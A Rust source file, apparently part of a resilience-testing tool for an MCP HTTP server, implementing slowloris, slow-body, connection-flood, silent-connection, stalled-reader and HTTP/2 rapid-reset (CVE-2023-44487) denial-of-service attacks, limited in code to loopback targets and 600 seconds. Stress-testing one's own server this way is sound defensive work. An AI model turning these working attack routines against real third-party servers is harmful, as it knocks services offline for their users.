//! The attacks. Each is bounded in what it opens and in time.

use std::io::{Error, Result};
use std::net::SocketAddr;
use std::time::Duration;

use clap::ValueEnum;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::{JoinSet, LocalSet};
use tokio::time::{sleep, timeout};

use crate::load::{Answers, Target, Transport, begin_session};
use crate::request::assemble;
use crate::wire::Connection;

/// What an attacker does.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Attack {
    /// Heads of requests that never end, a byte now and then.
    SlowHeads,
    /// Bodies of requests that never end, a byte now and then.
    SlowBodies,
    /// Connections as fast as they can be had, dropped at once.
    Connections,
    /// Connections that are held and say nothing.
    Silence,
    /// Large answers that are asked for and never read.
    StalledReaders,
    /// Streams of HTTP/2 that are reset as soon as they are opened (CVE-2023-44487).
    RapidReset,
}

impl Attack {
    pub(super) const ALL: [Self; 6] =
        [Self::SlowHeads, Self::SlowBodies, Self::Connections, Self::Silence, Self::StalledReaders, Self::RapidReset];

    pub(super) const fn name(self) -> &'static str {
        match self {
            Self::SlowHeads => "500 slow heads (slowloris)",
            Self::SlowBodies => "500 slow bodies",
            Self::Connections => "a connection flood, 2000/s",
            Self::Silence => "900 silent connections",
            Self::StalledReaders => "50 stalled readers of 8 MB each",
            Self::RapidReset => "rapid resets, 20000/s",
        }
    }

    pub(super) const fn argument(self) -> &'static str {
        match self {
            Self::SlowHeads => "slow-heads",
            Self::SlowBodies => "slow-bodies",
            Self::Connections => "connections",
            Self::Silence => "silence",
            Self::StalledReaders => "stalled-readers",
            Self::RapidReset => "rapid-reset",
        }
    }
}

/// Attacks for that long.
pub(crate) fn attack(attack: Attack, address: SocketAddr, seconds: f64) -> Result<()> {
    if !address.ip().is_loopback() {
        return Err(Error::other("only servers on this machine's loopback addresses"));
    }
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let time = Duration::from_secs_f64(seconds.min(SECONDS_MAX));
    LocalSet::new().block_on(&runtime, async {
        let mut attackers = JoinSet::new();
        let count = match attack {
            Attack::SlowHeads | Attack::SlowBodies => 500,
            Attack::Connections => 4,
            Attack::Silence => 900,
            Attack::StalledReaders => 50,
            Attack::RapidReset => 2,
        };
        for _ in 0..count {
            attackers.spawn_local(async move {
                loop {
                    // Whoever is thrown out comes again, a little later.
                    let _ = one(attack, address).await;
                    sleep(AGAIN).await;
                }
            });
        }
        sleep(time).await;
        attackers.shutdown().await;
    });
    Ok(())
}

async fn one(attack: Attack, address: SocketAddr) -> Result<()> {
    match attack {
        Attack::SlowHeads => {
            let mut stream = TcpStream::connect(address).await?;
            stream.write_all(b"POST /mcp HTTP/1.1\r\nHost: localhost\r\n").await?;
            trickle(&mut stream, b"X-Slow: 1\r\n").await
        }
        Attack::SlowBodies => {
            let mut stream = TcpStream::connect(address).await?;
            let head = "POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{";
            stream.write_all(head.as_bytes()).await?;
            trickle(&mut stream, b" ").await
        }
        Attack::Connections => {
            // Four of these make about 2000 a second.
            for _ in 0..100 {
                drop(TcpStream::connect(address).await?);
                sleep(Duration::from_millis(2)).await;
            }
            Ok(())
        }
        Attack::Silence => {
            let mut stream = TcpStream::connect(address).await?;
            stream.read_u8().await.map(drop)
        }
        Attack::StalledReaders => stall(address).await,
        Attack::RapidReset => rapid_reset(address).await,
    }
}

/// A piece every second, until the other side has enough.
async fn trickle(stream: &mut TcpStream, piece: &[u8]) -> Result<()> {
    let mut byte = [0];
    loop {
        stream.write_all(piece).await?;
        match timeout(Duration::from_secs(1), stream.read(&mut byte)).await {
            Err(_) => {}
            Ok(_) => return Ok(()),
        }
    }
}

/// Asks for eight answers of a megabyte each, on connections of its own, and reads none of them.
async fn stall(address: SocketAddr) -> Result<()> {
    let target = Target { address, path: "/mcp".to_owned(), transport: Transport::Streamable, answers: Answers::Own };
    let mut connection = Connection::open(address).await?;
    let session = begin_session(&target, &mut connection).await?;
    let head = crate::request::head(&target, "/mcp", session.as_deref());
    let text = "x".repeat(1 << 20);
    let mut held = Vec::new();
    for id in 0..8 {
        let body = format!(
            r#"{{"jsonrpc":"2.0","id":{id},"method":"tools/call","params":{{"name":"echo","arguments":{{"text":"{text}"}}}}}}"#
        );
        let mut connection = Connection::open(address).await?;
        connection.send(&assemble(&head, body.as_bytes())).await?;
        held.push(connection);
    }
    std::future::pending::<()>().await;
    drop(held);
    Ok(())
}

/// Opens streams and resets them at once (RFC 9113, 6.4), a hundred every 10 ms.
async fn rapid_reset(address: SocketAddr) -> Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&frame(0x4, 0, 0, &[])).await?;
    // GET, http, /, and `:authority: localhost` as a literal (RFC 7541, 6.1 and 6.2.2).
    let head = [&[0x82, 0x86, 0x84, 0x01, 9][..], b"localhost"].concat();
    for first in (1_u32..).step_by(200) {
        let mut burst = Vec::new();
        for id in (first..first + 200).step_by(2) {
            burst.extend_from_slice(&frame(0x1, 0x5, id, &head));
            burst.extend_from_slice(&frame(0x3, 0, id, &8_u32.to_be_bytes()));
        }
        stream.write_all(&burst).await?;
        sleep(Duration::from_millis(10)).await;
        let mut answers = [0; 4096];
        while let Ok(read) = stream.try_read(&mut answers) {
            if read == 0 {
                return Ok(());
            }
        }
    }
    Ok(())
}

/// A frame of HTTP/2 (RFC 9113, 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let [_, length @ ..] = length;
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

const AGAIN: Duration = Duration::from_millis(50);
const SECONDS_MAX: f64 = 600.0;
